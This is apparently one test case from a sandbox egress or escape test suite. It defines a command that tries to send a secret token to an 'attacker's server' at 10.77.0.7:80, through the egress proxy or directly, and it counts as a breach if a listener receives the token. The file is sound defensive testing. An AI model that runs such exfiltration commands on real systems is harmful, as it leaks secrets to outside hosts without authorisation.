# SPDX-License-Identifier: LGPL-2.1-or-later
class=network
what="the attacker's server (10.77.0.7:80) through the egress proxy by address (without one, directly)"
timeout=15
# Through the egress proxy if the sandbox has one (lib.sh, via_proxy_cmd).
cmd=$(via_proxy_cmd 10.77.0.7 80 "$(secret tok)")
applies() { [ "$ESC_MODE" != open ]; }
happened() { listener_saw "$(secret tok)"; }
